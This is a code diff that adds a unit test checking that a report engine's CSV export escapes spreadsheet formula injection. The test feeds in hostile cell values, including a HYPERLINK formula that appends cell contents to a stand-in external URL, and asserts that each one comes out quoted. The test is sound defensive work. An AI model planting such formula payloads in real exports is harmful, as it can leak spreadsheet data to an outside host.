@@ -3,6 +3,7 @@
 
 #include "config.h"
 
+#include <glib/gstdio.h>
 #include <locale.h>
 
 #include "engine-fixture.h"
@@ -416,6 +417,52 @@ test_bundled_headlines_report (void)
   g_assert_nonnull (strstr (text, "    ≡ A coupon subsidy plan of ten billion yuan"));
 }
 
+/* Formula injection (issue 15, item 12): a program name or measure title
+ * that a spreadsheet would run is written as text, with a leading '. */
+static void
+test_csv_formula_injection (void)
+{
+  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", "engine", "engine-basic.xml", NULL);
+  g_autofree char *xml = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("shangce-csv-XXXXXX", NULL);
+  g_autofree char *hostile = g_build_filename (dir, "hostile.xml", NULL);
+  g_autoptr(GString) text = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(ScProfile) p = base_profile ();
+  g_autoptr(ScResult) r = NULL;
+  g_autoptr(GBytes) csv = NULL;
+  ScCatalog *catalog = sc_catalog_new ();
+  const char *data;
+
+  g_assert_true (g_file_get_contents (path, &xml, NULL, NULL));
+  text = g_string_new (xml);
+  g_string_replace (text, "Alpha test program", "=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;x&quot;)", 1);
+  g_string_replace (text, "First-sale cash", "@SUM(A1:A9)", 1);
+  g_string_replace (text, "Live traffic", "-2+3", 1);
+  g_assert_true (g_file_set_contents (hostile, text->str, -1, NULL));
+  g_assert_true (sc_catalog_add_file (catalog, hostile, SC_ORIGIN_COMMAND_LINE, &error));
+  g_assert_no_error (error);
+
+  {
+    ScEngineOptions options = { .lang = "en" };
+
+    r = sc_engine_evaluate (catalog, p, &options);
+  }
+  csv = sc_report_build (catalog, p, r, SC_REPORT_CSV, "en");
+  data = g_bytes_get_data (csv, NULL);
+  g_assert_nonnull (strstr (data, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"x\"\")\","));
+  g_assert_null (strstr (data, ",\"=HYPERLINK"));
+  g_assert_nonnull (strstr (data, ",'@SUM(A1:A9),"));
+  g_assert_null (strstr (data, ",@SUM"));
+  g_assert_nonnull (strstr (data, ",'-2+3,"));
+  /* Negative amounts stay numbers. */
+  g_assert_null (strstr (data, ",'-0"));
+  g_clear_pointer (&r, sc_result_free);
+  sc_catalog_free (catalog);
+  g_unlink (hostile);
+  g_rmdir (dir);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -424,6 +471,7 @@ main (int   argc,
 
   g_test_add_func ("/engine/report/locale", test_locale_determinism);
   g_test_add_func ("/engine/report/csv", test_csv_format);
+  g_test_add_func ("/engine/report/csv-formula-injection", test_csv_formula_injection);
   g_test_add_func ("/engine/report/expected-and-headlines", test_report_expected_and_headlines);
   g_test_add_func ("/engine/report/text-width", test_text_width);
   g_test_add_func ("/engine/report/text-table-zh", test_text_table_zh);
